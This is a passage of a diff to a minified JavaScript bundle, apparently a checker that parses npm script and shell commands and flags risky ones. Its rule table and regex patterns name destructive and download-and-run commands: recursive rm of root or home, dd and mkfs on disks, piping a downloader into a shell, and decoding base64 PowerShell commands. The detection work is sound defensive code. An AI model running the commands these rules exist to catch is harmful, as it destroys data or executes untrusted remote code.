-xpansion"]),I1=/^\s*(?:(?:!|\{|do|elif|else|if|then|time|until|while)\s+)*$/,$1=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
-R1=/\\.?|\$\(|[^\\`$"]+|./sy;class N1{#e;#t;#s=0;constructor(e,n){this.#e=e,this.#t=n}list(e,n){const s=[];let r=this.#i(),
+r=>_1.has(r.rule)&&s(r.span))}const _1=new Set(["arithmetic-expansion","command-substitution","dollar-quote","variable-e\
+xpansion"]),E1=/^\s*(?:(?:!|\{|do|elif|else|if|then|time|until|while)\s+)*$/,k1=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
+v1=/\\.?|\$\(|[^\\`$"]+|./sy;class D1{#e;#t;#s=0;constructor(e,n){this.#e=e,this.#t=n}list(e,n){const s=[];let r=this.#i(),
 i=!1;const o=(a,c="")=>{const l=this.#n(r,a,c),{words:u,assignments:d,redirections:B,inside:f}=l,h=u.length+d.length+B.length+
 f.length===0,m=s.at(-1);h?m&&(s[s.length-1]={...m,separator:m.separator+c}):s.push(l);const g=/^\|&?$/.test(c)?l:void 0;
-r=this.#i(h?r.pipedFrom:g)};for(;this.#s<this.#e.length;){const a=this.#s,c=this.#r(i?R1:$1),l=this.#s;if(c==='"')i=!i;else{
-if(c===e&&(!i||e==="`"))return o(a),s;if(c==="$("||c==="`"||!i&&/^[<>]?\($/.test(c)){if(n===x1){o(a);continue}const u=this.#e.
-slice(r.start,a),d=c==="("?I1.test(u)?"subshell":"definition":"substitution",B=this.list(c==="`"?"`":")",n+1);r.inside.push(
+r=this.#i(h?r.pipedFrom:g)};for(;this.#s<this.#e.length;){const a=this.#s,c=this.#r(i?v1:k1),l=this.#s;if(c==='"')i=!i;else{
+if(c===e&&(!i||e==="`"))return o(a),s;if(c==="$("||c==="`"||!i&&/^[<>]?\($/.test(c)){if(n===C1){o(a);continue}const u=this.#e.
+slice(r.start,a),d=c==="("?E1.test(u)?"subshell":"definition":"substitution",B=this.list(c==="`"?"`":")",n+1);r.inside.push(
 ...B),r.gaps.push({kind:d,start:a,end:this.#s}),d==="subshell"&&(r.subshell=B)}else!i&&/^(?:[;&|\r\n]+|\))$/.test(c)?o(a,
 c):!i&&c.startsWith("#")&&/^\s?$/.test(this.#e.charAt(a-1))?r.gaps.push({kind:"comment",start:a,end:l}):!i&&/^(?:[<>]|&>)/.
 test(c)&&r.gaps.push({kind:"operator",start:a,end:l})}}return o(this.#e.length),s}#i(e){return{start:this.#s,gaps:[],inside:[],
@@ -4898,425 +4889,425 @@ ator").map(({start:b,end:D})=>{for(;m<f.length&&(f[m]?.span.start??D)<D;)m+=1;co
 b&&/^\d+$/.test(v.text)&&h.add(v),O&&h.add(O),{operator:this.#e.slice(b,D),...O&&{target:O}}}),y=[...d.assignments,...d.
 refused].map(B);return{words:f.filter(b=>!h.has(b)),assignments:y.sort((b,D)=>b.span.start-D.span.start),redirections:C,
 problems:d.problems.map(B),span:{start:r,end:n},separator:s,inside:o,substituted:i.filter(({kind:b})=>b==="substitution"),
-...a&&{pipedFrom:a},...c&&{subshell:c},...i.some(({kind:b})=>b==="definition")&&{defines:!0}}}}const F1=/^-(?:exec|ok)(?:dir)?$/;
-function nr(t){let e=t;for(;;){const[n,s]=e,r=qs(n?.text??"");if(r==="find"){const o=e.findIndex(({text:a})=>F1.test(a));
-return o<0?e:nr(e.slice(o+1))}if(ut(r)?.kind!=="wrapper"||r==="command"&&/^-[vV]/.test(s?.text??""))return e;const i=e.findIndex(
-(o,a)=>a>0&&L1(o,e));if(i<0)return e;e=e.slice(i)}}function L1({text:t},e){const n=s=>/^np[mx]$/.test(s)||ut(s)!==void 0;
+...a&&{pipedFrom:a},...c&&{subshell:c},...i.some(({kind:b})=>b==="definition")&&{defines:!0}}}}const x1=/^-(?:exec|ok)(?:dir)?$/;
+function er(t){let e=t;for(;;){const[n,s]=e,r=Ks(n?.text??"");if(r==="find"){const o=e.findIndex(({text:a})=>x1.test(a));
+return o<0?e:er(e.slice(o+1))}if(ut(r)?.kind!=="wrapper"||r==="command"&&/^-[vV]/.test(s?.text??""))return e;const i=e.findIndex(
+(o,a)=>a>0&&O1(o,e));if(i<0)return e;e=e.slice(i)}}function O1({text:t},e){const n=s=>/^np[mx]$/.test(s)||ut(s)!==void 0;
 return e.slice(1).some(s=>n(s.text))?n(t):!/^-|^\w+=|^\d+[smhd]?$/.test(t)}function Ai(t){const[e,...n]=t,s=e&&ut(e.text);
 if(s?.text===void 0)return;if(s.text==="words")return Si(n);const r=s.text,i=n.findIndex(({text:a})=>r.test(a)),o=n[i];if(o!==
 void 0){if(s.name==="cmd"){const a=o.text.slice(2);return Si(a===""?n.slice(i+1):[{...o,text:a},...n.slice(i+1)])}return/^[-/]e/i.
-test(o.text)&&hp(s)?P1(n[i+1]):hp(s)?Si(n.slice(i+1)):Si(n.slice(i+1,i+2))}}function hp({name:t}){return t==="pwsh"||t===
-"powershell"}function Si(t){return t.length===0?void 0:{text:t.map(({text:e})=>e).join(" "),words:t}}function P1(t){return t&&
-{text:Buffer.from(t.text,"base64").toString("utf16le"),words:[t]}}const pp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,
-j1=(t,e,n)=>t.some(s=>/^-[A-Za-z]+$/.test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&n.startsWith(s.toLowerCase())),
-M1=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,G1=t=>t.some((e,n)=>{const s=/^(?:-s|--signal)$/.
-test(e)?t[n+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&/^(?:9|(?:sig)?kill)$/i.test(s)}),mp=(t,e,n)=>(t===
-"systemctl"||t==="loginctl")&&e.some(s=>n.test(s)),H1=[{name:"mass_deletion",matches:({program:t,args:e})=>t==="rm"&&j1(
-e,"rR","--recursive")&&e.some(n=>!n.startsWith("-")&&M1.test(n))},{name:"raw_disk_write",matches:({program:t,args:e})=>t===
+test(o.text)&&Bp(s)?A1(n[i+1]):Bp(s)?Si(n.slice(i+1)):Si(n.slice(i+1,i+2))}}function Bp({name:t}){return t==="pwsh"||t===
+"powershell"}function Si(t){return t.length===0?void 0:{text:t.map(({text:e})=>e).join(" "),words:t}}function A1(t){return t&&
+{text:Buffer.from(t.text,"base64").toString("utf16le"),words:[t]}}const fp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,
+S1=(t,e,n)=>t.some(s=>/^-[A-Za-z]+$/.test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&n.startsWith(s.toLowerCase())),
+T1=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,I1=t=>t.some((e,n)=>{const s=/^(?:-s|--signal)$/.
+test(e)?t[n+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&/^(?:9|(?:sig)?kill)$/i.test(s)}),hp=(t,e,n)=>(t===
+"systemctl"||t==="loginctl")&&e.some(s=>n.test(s)),$1=[{name:"mass_deletion",matches:({program:t,args:e})=>t==="rm"&&S1(
+e,"rR","--recursive")&&e.some(n=>!n.startsWith("-")&&T1.test(n))},{name:"raw_disk_write",matches:({program:t,args:e})=>t===
 "dd"&&e.some(n=>n.startsWith("if=")||/^of=\/dev\//.test(n))},{name:"filesystem_format",matches:({program:t})=>/^(?:mkfs(?:\..+)?|mke2fs)$/.
-test(t)},{name:"direct_disk_write",matches:({program:t,args:e})=>t==="tee"&&e.some(n=>pp.test(n))},{name:"world_writable",
+test(t)},{name:"direct_disk_write",matches:({program:t,args:e})=>t==="tee"&&e.some(n=>fp.test(n))},{name:"world_writable",
 matches:({program:t,args:e})=>t==="chmod"&&e.some(n=>/^[0-7]{2,4}[2367]$/.test(n)||/^[ug]*[ao][uoga]*[+=][rxst]*w/.test(
 n))},{name:"privilege_escalation",matches:({program:t,args:e})=>t==="chown"&&e.some(n=>/^\+?(?:root|0+)(?::.*)?$|^:\+?(?:root|0+)$/s.
 test(n))},{name:"firewall_manipulation",matches:({program:t})=>/^(?:ip6?tables(?:-.+)?|nft|ufw|firewall-cmd)$/.test(t)},
 {name:"system_shutdown",matches:({program:t,args:e})=>/^(?:shutdown|poweroff|halt)$/.test(t)||/^(?:init|telinit)$/.test(
-t)&&e[0]==="0"||mp(t,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:t,args:e})=>t==="reboot"||/^(?:init|telinit)$/.
-test(t)&&e[0]==="6"||mp(t,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:t,args:e})=>/^(?:kill|pkill|killall)$/.
-test(t)&&G1(e)}],gp=8,z1=4;function ys(t,e=0){const n=new Z1;return en(t).flatMap(s=>U1(s,n,e))}function U1(t,e,n){const s=[],
-{words:r}=ac(t);for(const{operator:c,target:l}of t.redirections)if(c.includes(">")&&l&&pp.test(l.text)){const u=`> ${l.text}`;
-s.push({name:"direct_disk_write",pattern:u,words:[l]})}const i=Cp(r),o=e.runBy(t,i);if(o!==void 0){const c=`${o} | ${r[0]?.
-text??""}`;s.push({name:"remote_code_execution",pattern:c,words:r})}const a=new Set;for(const c of i){const l=H1.find(({
+t)&&e[0]==="0"||hp(t,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:t,args:e})=>t==="reboot"||/^(?:init|telinit)$/.
+test(t)&&e[0]==="6"||hp(t,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:t,args:e})=>/^(?:kill|pkill|killall)$/.
+test(t)&&I1(e)}],pp=8,N1=4;function Cs(t,e=0){const n=new L1;return en(t).flatMap(s=>R1(s,n,e))}function R1(t,e,n){const s=[],
+{words:r}=oc(t);for(const{operator:c,target:l}of t.redirections)if(c.includes(">")&&l&&fp.test(l.text)){const u=`> ${l.text}`;
+s.push({name:"direct_disk_write",pattern:u,words:[l]})}const i=mp(r),o=e.runBy(t,i);if(o!==void 0){const c=`${o} | ${r[0]?.
+text??""}`;s.push({name:"remote_code_execution",pattern:c,words:r})}const a=new Set;for(const c of i){const l=$1.find(({
 matches:f})=>f(c))?.name;if(l!==void 0){const f=c.words.map(({text:h})=>h).join(" ");s.push({name:l,pattern:f,words:c.words})}
-const d=ut(c.program)?.kind==="shell"?Ai(c.words)?.text:void 0;if(d===void 0||a.has(d)||n===z1)continue;a.add(d);const B=ys(
-Kt(d),n+1);s.push(...B.map(f=>({...f,words:c.words}))),J1.test(d)&&s.push({name:"remote_code_execution",pattern:d,words:c.
-words})}return s}function Cp(t){const e=cc(t,0);if(e===void 0)return[];const n=[e];if(ut(e.program)?.kind==="wrapper")for(let s=1;s<=
-Math.min(t.length-1,gp);s+=1){const r=cc(t,s);r!==void 0&&!/^-|=/.test(r.program)&&n.push(r)}if(e.program==="find")for(const[
-s,{text:r}]of t.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?cc(t,s+1):void 0;if(i!==void 0&&n.push(i),n.length>gp)
-break}return n}function cc(t,e){const n=t[e];if(n===void 0)return;const s=t.slice(e);return{program:qs(n.text),args:s.slice(
-1).map(({text:r})=>r),words:s}}const J1=/\bdownload(?:string|data)\b/i;class Z1{#e=new Map;#t=new Map;runBy(e,n){const s=(e.
-pipedFrom&&this.#e.get(e.pipedFrom))??K1(e.inside),r=n.find(({program:o})=>yp(o));this.#e.set(e,s??r?.program);const i=n.
-flatMap(({program:o,args:a,words:c})=>(ri(o)?a:c.slice(0,1).map(({text:l})=>l)).flatMap(l=>this.#t.get(uc(l))??[]))[0];return r&&
-this.#s(r,e),n.some(({program:o})=>ri(o))?s??i:i}#s({program:e,args:n},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
-text??[]);for(const i of[...n,...r])!i.startsWith("-")&&uc(i)!==""&&this.#t.set(uc(i),e)}}function uc(t){return t.replace(
-/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function K1(t){return en(t).flatMap(({words:e})=>Cp(e)).find(({program:e})=>yp(e))?.
-program}function yp(t){return ut(t)?.kind==="downloader"}const lc={mass_deletion:"deletes whole directories",raw_disk_write:"\
+const d=ut(c.program)?.kind==="shell"?Ai(c.words)?.text:void 0;if(d===void 0||a.has(d)||n===N1)continue;a.add(d);const B=Cs(
+Kt(d),n+1);s.push(...B.map(f=>({...f,words:c.words}))),F1.test(d)&&s.push({name:"remote_code_execution",pattern:d,words:c.
+words})}return s}function mp(t){const e=ac(t,0);if(e===void 0)return[];const n=[e];if(ut(e.program)?.kind==="wrapper")for(let s=1;s<=
+Math.min(t.length-1,pp);s+=1){const r=ac(t,s);r!==void 0&&!/^-|=/.test(r.program)&&n.push(r)}if(e.program==="find")for(const[
+s,{text:r}]of t.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?ac(t,s+1):void 0;if(i!==void 0&&n.push(i),n.length>pp)
+break}return n}function ac(t,e){const n=t[e];if(n===void 0)return;const s=t.slice(e);return{program:Ks(n.text),args:s.slice(
+1).map(({text:r})=>r),words:s}}const F1=/\bdownload(?:string|data)\b/i;class L1{#e=new Map;#t=new Map;runBy(e,n){const s=(e.
+pipedFrom&&this.#e.get(e.pipedFrom))??P1(e.inside),r=n.find(({program:o})=>gp(o));this.#e.set(e,s??r?.program);const i=n.
+flatMap(({program:o,args:a,words:c})=>(si(o)?a:c.slice(0,1).map(({text:l})=>l)).flatMap(l=>this.#t.get(cc(l))??[]))[0];return r&&
+this.#s(r,e),n.some(({program:o})=>si(o))?s??i:i}#s({program:e,args:n},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
+text??[]);for(const i of[...n,...r])!i.startsWith("-")&&cc(i)!==""&&this.#t.set(cc(i),e)}}function cc(t){return t.replace(
+/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function P1(t){return en(t).flatMap(({words:e})=>mp(e)).find(({program:e})=>gp(e))?.
+program}function gp(t){return ut(t)?.kind==="downloader"}const uc={mass_deletion:"deletes whole directories",raw_disk_write:"\
 overwrites files or disks",filesystem_format:"formats a disk",direct_disk_write:"overwrites a disk",world_writable:"lets\
  every user change files",privilege_escalation:"gives files to the superuser",firewall_manipulation:"changes the firewal\
 l",system_shutdown:"shuts the machine down",system_reboot:"restarts the machine",remote_code_execution:"downloads a scri\
-pt and runs it",force_kill:"kills processes"},W1=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,q1=16*1024;function V1(t){if(t.
-length>q1)return"is too long to check";for(const[,s="",r=""]of t.matchAll(W1))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
-test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return lc.mass_deletion;const e=Kt(t),n=ys(e).find(({name:s})=>s!=="mass_\
-deletion");return n?lc[n.name]:Y1(e)?"pipes text into a shell":void 0}function Y1(t){return en(t).some(({pipedFrom:e,words:n})=>{
-const[s]=nr(n);return e!==void 0&&s!==void 0&&si(s.text)})}const X1=new Set(": [ cd echo exit false test true".split(" ")),
-Q1=new Set(`! . [[ ]] { } alias autoload bg bind break builtin caller case chdir command compgen complete compopt
+pt and runs it",force_kill:"kills processes"},j1=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,M1=16*1024;function G1(t){if(t.
+length>M1)return"is too long to check";for(const[,s="",r=""]of t.matchAll(j1))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
+test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return uc.mass_deletion;const e=Kt(t),n=Cs(e).find(({name:s})=>s!=="mass_\
+deletion");return n?uc[n.name]:H1(e)?"pipes text into a shell":void 0}function H1(t){return en(t).some(({pipedFrom:e,words:n})=>{
+const[s]=er(n);return e!==void 0&&s!==void 0&&ni(s.text)})}const z1=new Set(": [ cd echo exit false test true".split(" ")),
+U1=new Set(`! . [[ ]] { } alias autoload bg bind break builtin caller case chdir command compgen complete compopt
   continue coproc declare dirs disown do done elif else enable esac eval exec export fc fg fi for function
   functions getopts hash help histexpand history if in integer jobs kill let local logout mapfile popd print
   printf pushd pwd r read readarray readonly return select set shift shopt source suspend then time times trap
-  type typeset ulimit umask unalias unset until wait whence while`.split(/\s+/));function wp(t){return X1.has(t)}function bp(t){
-return Q1.has(t)}const _p={selected:!1,runs:[],packages:[],problems:[]};function dc({body:t,words:e}){return[t,...e.map(
-({text:n})=>Op(n))].join(" ")}async function Ep(t,e,n){const s=tc(t),r=Dp(t);if(s.informs||r===void 0)return _p;const i=h=>s1(
-s,h,n),o=await i(e);if("problems"in o)return{..._p,problems:o.problems};const{project:a,selected:c,directories:l}=o,u=s.
-ignoreScripts??await tI({...e,directory:a}),d=[],B=[...o.missing,...await eI(o,e,n,i)];let f=!1;for(const h of l){const m=await Xs(
-e.tree,h);if(m===Rt){const g=te.posix.join(h,"package.json");B.push(...ae("package-json-invalid",n,{path:g}).problems)}else if(m===
+  type typeset ulimit umask unalias unset until wait whence while`.split(/\s+/));function Cp(t){return z1.has(t)}function yp(t){
+return U1.has(t)}const wp={selected:!1,runs:[],packages:[],problems:[]};function lc({body:t,words:e}){return[t,...e.map(
+({text:n})=>Dp(n))].join(" ")}async function bp(t,e,n){const s=ec(t),r=kp(t);if(s.informs||r===void 0)return wp;const i=h=>WT(
+s,h,n),o=await i(e);if("problems"in o)return{...wp,problems:o.problems};const{project:a,selected:c,directories:l}=o,u=s.
+ignoreScripts??await Z1({...e,directory:a}),d=[],B=[...o.missing,...await J1(o,e,n,i)];let f=!1;for(const h of l){const m=await Vs(
+e.tree,h);if(m===Nt){const g=te.posix.join(h,"package.json");B.push(...ae("package-json-invalid",n,{path:g}).problems)}else if(m===
 void 0)B.push(...ae("package-json-missing",n,{directory:h}).problems);else if(m.scripts.has(r)){const g={event:r,words:t.
-passthrough},C=xp(m,h,g,{ignoreScripts:u});d.push(...C),B.push(...kp(C,r,{...e,directory:h},n))}else f=!0}if(f){const h={
+passthrough},C=vp(m,h,g,{ignoreScripts:u});d.push(...C),B.push(..._p(C,r,{...e,directory:h},n))}else f=!0}if(f){const h={
 script:r,passes:s.ifPresent},m=s.ifPresent&&d.length===0&&e.via===void 0,g=r==="start"||m;B.push(be("npm-script-missing",
-n,h,g?"error":void 0))}return{project:a,selected:c,runs:d,packages:l,problems:B}}async function eI({project:t,directories:e},{
+n,h,g?"error":void 0))}return{project:a,selected:c,runs:d,packages:l,problems:B}}async function J1({project:t,directories:e},{
 base:n,...s},r,i){const o=te.posix.join(t,"package.json");if(n===void 0||!s.changed.has(o))return[];const a=await i({...s,
 tree:n});if("problems"in a)return[];const c=a.directories.filter(l=>!e.includes(l));return c.length===0?[]:[be("workspac\
-es-changed",r,{path:o,lost:c})]}function kp(t,e,{via:n,directory:s},r){if(t.some(({event:o,body:a})=>o===e&&!vp(a)))return[];
+es-changed",r,{path:o,lost:c})]}function _p(t,e,{via:n,directory:s},r){if(t.some(({event:o,body:a})=>o===e&&!Ep(a)))return[];
 const i={script:e,path:te.posix.join(s,"package.json")};return[be("npm-script-empty",r,i,n===void 0?"error":"warning")]}
-function vp(t){return t.split(`
-`).every(e=>/^\s*(?:#|$)/.test(e))}async function tI(t){const e=await ms(t);return"settings"in e&&e.settings["ignore-scr\
-ipts"]===!0}function Dp({subcommand:t,operands:e}){switch(t){case"run":return e[0]?.text;case"test":case"start":case"sto\
-p":return t;default:return}}function xp({scripts:t},e,{event:n,words:s},{ignoreScripts:r}={}){return(r?[n]:[`pre${n}`,n,
-`post${n}`]).flatMap(o=>{const a=t.get(o);return a?[{directory:e,event:o,body:a,words:o===n?s:[]}]:[]})}const nI=/[\t\n\r "#$&'()*;<>?\\`|~]/;
-function Op(t){return t===""?"''":nI.test(t)?`'${t.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
-''","\\'"):t}function sI(t,e){const n=Kt(t,e);if(n.length===0&&!vp(t))return{commands:n,fault:{part:"the script",why:"ca\
+function Ep(t){return t.split(`
+`).every(e=>/^\s*(?:#|$)/.test(e))}async function Z1(t){const e=await ps(t);return"settings"in e&&e.settings["ignore-scr\
+ipts"]===!0}function kp({subcommand:t,operands:e}){switch(t){case"run":return e[0]?.text;case"test":case"start":case"sto\
+p":return t;default:return}}function vp({scripts:t},e,{event:n,words:s},{ignoreScripts:r}={}){return(r?[n]:[`pre${n}`,n,
+`post${n}`]).flatMap(o=>{const a=t.get(o);return a?[{directory:e,event:o,body:a,words:o===n?s:[]}]:[]})}const K1=/[\t\n\r "#$&'()*;<>?\\`|~]/;
+function Dp(t){return t===""?"''":K1.test(t)?`'${t.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
+''","\\'"):t}function W1(t,e){const n=Kt(t,e);if(n.length===0&&!Ep(t))return{commands:n,fault:{part:"the script",why:"ca\
 nnot be read"}};const s=ln(t).problems.find(({rule:r})=>r==="shell-comment");if(s&&n.length>0){const r=t.slice(s.span.start,
 s.span.end);return{commands:n,fault:{part:r,why:"hides the words behind it"}}}for(const[r,i]of n.entries()){const o=r===
-n.length-1,a=oI(i,t)??rI(i,o);if(a!==void 0)return{commands:n,fault:a}}return{commands:n}}function rI({separator:t},e){const n=t.
-trim();if(!(e?n==="":n==="&&"))return{part:n===""?"a line break":n,why:iI}}const iI="joins commands in another way than \
-`&&`";function oI(t,e){const{words:n,redirections:s,inside:r,subshell:i,defines:o,problems:a,assignments:c}=t,l=e.slice(
+n.length-1,a=Y1(i,t)??q1(i,o);if(a!==void 0)return{commands:n,fault:a}}return{commands:n}}function q1({separator:t},e){const n=t.
+trim();if(!(e?n==="":n==="&&"))return{part:n===""?"a line break":n,why:V1}}const V1="joins commands in another way than \
+`&&`";function Y1(t,e){const{words:n,redirections:s,inside:r,subshell:i,defines:o,problems:a,assignments:c}=t,l=e.slice(
 t.span.start,t.span.end).trim(),u=(m,g)=>({part:m,why:g});if(i)return u(l,"runs in a subshell");if(o)return u(l,"defines\
  a function");if(r.length>0)return u(l,"runs a command to make a word");const[d]=s;if(d)return u(`${d.operator} ${d.target?.
-text??""}`,"redirects input or output");const B=c.find(({name:m,value:g})=>!ei(m,g));if(B)return u(`${B.name}=`,"sets a \
-variable that can choose the code that runs");const f=n.find(m=>Oi(t,m)&&!aI(t,m,e));if(f){const{start:m,end:g}=f.span;return u(
-e.slice(m,g),"is only known when the script runs")}const h=a.find(m=>!cI(m,n));if(h){const{start:m,end:g}=h.span;return u(
-e.slice(m,g).trim()||l,"is syntax of a shell")}return n.length===0?u(l,"starts no program"):uI(n)}function aI({problems:t},{
+text??""}`,"redirects input or output");const B=c.find(({name:m,value:g})=>!Qr(m,g));if(B)return u(`${B.name}=`,"sets a \
+variable that can choose the code that runs");const f=n.find(m=>Oi(t,m)&&!X1(t,m,e));if(f){const{start:m,end:g}=f.span;return u(
+e.slice(m,g),"is only known when the script runs")}const h=a.find(m=>!Q1(m,n));if(h){const{start:m,end:g}=h.span;return u(
+e.slice(m,g).trim()||l,"is syntax of a shell")}return n.length===0?u(l,"starts no program"):eI(n)}function X1({problems:t},{
 span:e},n){return t.every(s=>s.rule!=="variable-expansion"||s.span.end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.
-test(n.slice(s.span.start,s.span.end)))}function cI({rule:t,span:e,severity:n},s){if(t==="variable-expansion"||n==="warn\
+test(n.slice(s.span.start,s.span.end)))}function Q1({rule:t,span:e,severity:n},s){if(t==="variable-expansion"||n==="warn\
 ing")return!0;if(t!=="brace-expansion")return!1;const r=s.find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&
-Qs(r.text)?.every(i=>!i.startsWith("-"))===!0}function uI(t){const[e]=t,n=e?.text??"";if(bp(n)&&!e?.quoted)return{part:n,
-why:"is a word of the shell"};const s=nr(t),r=t.slice(0,t.length-s.length);if(Ap(n))return;const i=ut(n);if(i?.kind==="w\
-rapper"){const o=r.find(({text:a},c)=>c>0&&!lI(a,n));if(o||i.wraps!=="as-is"||r.length===0)return{part:o?.text??n,why:"d\
+Ys(r.text)?.every(i=>!i.startsWith("-"))===!0}function eI(t){const[e]=t,n=e?.text??"";if(yp(n)&&!e?.quoted)return{part:n,
+why:"is a word of the shell"};const s=er(t),r=t.slice(0,t.length-s.length);if(xp(n))return;const i=ut(n);if(i?.kind==="w\
+rapper"){const o=r.find(({text:a},c)=>c>0&&!tI(a,n));if(o||i.wraps!=="as-is"||r.length===0)return{part:o?.text??n,why:"d\
 ecides how another program runs"}}else if(r.length>0)return{part:n,why:"runs a program for what it finds"};return Ai(s)&&
-s[0]?.text!=="node"?{part:s[0]?.text??n,why:"runs text as code"}:void 0}function Ap(t){return Sp(t)==="as-tool"}function Sp(t){
-const e=ut(t);return e?.name===t?e.wraps:void 0}function lI(t,e){const[,n,s=""]=/^(\w+)=(.*)$/s.exec(t)??[];return n!==void 0?
-ei(n,s):Sp(t)==="as-is"?!0:qs(e)==="env"?!1:/^(?:-{1,2}[\w-]+(?:=[\w.]+)?|\d+[smhd]?|[\w.]+)$/.test(t)}var dI=Te(298);const Bc={
+s[0]?.text!=="node"?{part:s[0]?.text??n,why:"runs text as code"}:void 0}function xp(t){return Op(t)==="as-tool"}function Op(t){
+const e=ut(t);return e?.name===t?e.wraps:void 0}function tI(t,e){const[,n,s=""]=/^(\w+)=(.*)$/s.exec(t)??[];return n!==void 0?
+Qr(n,s):Op(t)==="as-is"?!0:Ks(e)==="env"?!1:/^(?:-{1,2}[\w-]+(?:=[\w.]+)?|\d+[smhd]?|[\w.]+)$/.test(t)}var nI=Te(298);const dc={
 cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,
-from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},BI=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
-function fI([t,...e]){if(t?.text==="shx"){const[n]=e;return n&&(n.text==="echo"||Object.hasOwn(Bc,n.text))?e:void 0}return t&&
-Object.hasOwn(Bc,t.text)?[t,...e]:void 0}async function hI([t,...e],n){const s=t?.text??"",r=Bc[s];if(r===void 0)return;
+from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},sI=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
+function rI([t,...e]){if(t?.text==="shx"){const[n]=e;return n&&(n.text==="echo"||Object.hasOwn(dc,n.text))?e:void 0}return t&&
+Object.hasOwn(dc,t.text)?[t,...e]:void 0}async function iI([t,...e],n){const s=t?.text??"",r=dc[s];if(r===void 0)return;
 const i=e.find(({text:a})=>a.startsWith("-")&&!r.flags.test(a));if(i)return{part:`${s} ${i.text}`,why:"has a flag that i\
 s not known"};const o=e.flatMap(({text:a})=>a.startsWith("-")?[]:[a]);if(o.length<(r.from<0?2:1))return{part:s,why:"name\
-s no path"};for(const a of o.slice(r.from)){const c=await pI(a,n);if(c!==void 0)return{part:`${s} \u2026 ${a}`,why:c}}}async function pI(t,e){
+s no path"};for(const a of o.slice(r.from)){const c=await oI(a,n);if(c!==void 0)return{part:`${s} \u2026 ${a}`,why:c}}}async function oI(t,e){
 const{tree:n,isOutput:s}=e,r=t.startsWith("/")?void 0:xe(rt(e,t));if(r===void 0||r==="")return"writes outside of the bui\
-ld outputs";if(/[*?[\]{}!$~\\]/.test(t))return"writes to a path that the text does not show";if(BI.test(r))return"writes\
- to a directory of dependencies";if(oT(r)!==void 0)return"writes a configuration file";const i=n.stat(r);if(i?.tracked&&
+ld outputs";if(/[*?[\]{}!$~\\]/.test(t))return"writes to a path that the text does not show";if(sI.test(r))return"writes\
+ to a directory of dependencies";if(YS(r)!==void 0)return"writes a configuration file";const i=n.stat(r);if(i?.tracked&&
 i.kind!=="directory")return"writes a file of the commit";const o=`${r}/`;if(i?.tracked&&[...n.files()].some(c=>c.path.startsWith(
-o)))return"writes to a directory of the commit";if(!(s?.(r)||(await mI(n))(r)))return"writes to a path that git does not\
- ignore and `build_outputs` does not name"}const mI=Qt(async t=>{const e=new Map;for(const{path:n}of t.files()){if(te.posix.
-basename(n)!==".gitignore")continue;const s=await wi(t,n,gI),r=te.posix.dirname(n).replace(/^\.$/,"");s&&"text"in s&&e.set(
-r,dI().add(s.text))}return n=>{const s=n.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
+o)))return"writes to a directory of the commit";if(!(s?.(r)||(await aI(n))(r)))return"writes to a path that git does not\
+ ignore and `build_outputs` does not name"}const aI=Qt(async t=>{const e=new Map;for(const{path:n}of t.files()){if(te.posix.
+basename(n)!==".gitignore")continue;const s=await wi(t,n,cI),r=te.posix.dirname(n).replace(/^\.$/,"");s&&"text"in s&&e.set(
+r,nI().add(s.text))}return n=>{const s=n.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
 "/")),a=s.slice(i).join("/"),c=o?.test(a),l=o?.test(`${a}/`);c?.ignored||l?.ignored?r=!0:(c?.unignored||l?.unignored)&&(r=
